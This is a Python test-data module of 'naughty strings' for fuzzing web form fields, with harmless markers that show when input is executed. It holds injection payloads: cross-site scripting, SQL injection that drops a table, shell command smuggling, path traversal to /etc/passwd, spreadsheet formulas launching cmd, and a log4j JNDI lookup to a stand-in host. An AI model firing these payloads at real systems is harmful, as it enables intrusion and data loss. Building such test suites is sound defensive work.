"""Naughty strings, which break careless code: typed into every field of every form, and shown on every page.

Wherever one of them comes to life, it leaves a mark: an element or attribute named `naughty`, a call of
`naughty()`, a header `x-naughty`, or the product of the two numbers of `_SUM`.
"""

_SUM = "1337*1331"
PRODUCT = str(1337 * 1331)

NAUGHTY: dict[str, str] = {
    # elements
    "script": "<script>naughty()</script>",
    "script, upper case": "<SCRIPT>naughty()</SCRIPT>",
    "image": "<img src=x onerror=naughty()>",
    "drawing": "<svg onload=naughty()><naughty></svg>",
    "frame": '<iframe srcdoc="<script>parent.naughty()</script>"></iframe>',
    "unfinished tag": "<naughty ",
    "end of a comment": "--><naughty>",
    "end of a title": "</title></textarea></select></option></button><naughty>",
    "end of a script": "</script><script>naughty()</script>",
    "base": "<base href=//naughty.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:naughty()">',
    "style": "<style>*{background:url(//naughty.example)}</style>",
    "form": "<form action=//naughty.example><input name=password>",
    # attributes
    "double quote": '" naughty=1 autofocus onfocus="naughty()',
    "single quote": "' naughty=1 autofocus onfocus='naughty()",
    "back quote": "` naughty=1 onfocus=naughty()",
    "out of an attribute": '"><naughty onclick=naughty()>',
    "script address": "javascript:naughty()//",
    "script address, disguised": "\tjava\nscript:naughty()",
    "data address": "data:text/html,<script>naughty()</script>",
    "another host": "//naughty.example/%2f..",
    "another host, backslash": "/\\naughty.example",
    # characters by their names
    "already escaped": "&lt;naughty&gt;&amp;&#60;naughty&#62;",
    "half an entity": "&ltnaughty &#x3cnaughty>",
    # templates, formats, queries, formulas, shells
    "Jinja": "{{" + _SUM + "}}",
    "Jinja statement": "{% if true %}{{" + _SUM + "}}{% endif %}{#",
    "JavaScript template": "${" + _SUM + "}#{" + _SUM + "}<%= " + _SUM + " %>",
    "Jinja, deep": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "%s%n{0}{token}{0.__class__}%(password)s",
    "SQL": "'; DROP TABLE learners; --",
    "SQL, always true": "' OR '1'='1",
    "SQL, wildcards": "%_\\",
    "formula": "=cmd|' /C calc'!A0",
    "formula, plus": '+HYPERLINK("http://naughty.example")',
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "shell": "$(touch naughty); `touch naughty` | touch naughty &",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\C:\\CON\\NUL.txt",
    "log4j": "${jndi:ldap://naughty.example/a}",
    # lines and control characters
    "header": "x\r\nx-naughty: 1\r\n\r\n<naughty>",
    "line ends": "one\r\ntwo\nthree\u2028four\u2029five\x85six",
    "NUL": "a\x00b",
    "control characters": "\x01\x08\x0b\x0c\x1b[31mred\x7f\x9b",
    # Unicode
    "right to left": "\u202egnihtyreve\u2066 \u200f<naughty>",
    "invisible": "\u200b\u200d\ufeff\u2060\u00ad",
    "emoji": "\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1ec\U0001f1e7 \U0001f4a9",
    "many accents": "Z" + "\u0300\u0301\u0489" * 40,
    "not of this font": "\uff21\uff44\uff4d\uff49\uff4e \uff1cnaughty\uff1e K \u0131 \u017f \u0130 \u00df \u013f",
    "other scripts": "\u7530\u4e2d\u3055\u3093 \u03a9\u2248 \u0627\u0644\u0643\u0644 \u0e44\u0e17 \ufdfd \U0001d517",
    "no characters": "\ufffe\uffff\ufffd",
    # lengths and numbers
    "long": "naughty" * 1_500,
    "long word": "W" * 300,
    "spaces": " \t\u00a0\u2003 ",
    "number": "-1",
    "large number": "9" * 40,
    "not a number": "NaN",
    "other digits": "\uff11\uff12\uff13\u0664\u0665\u0666",
    "null": "null",
}
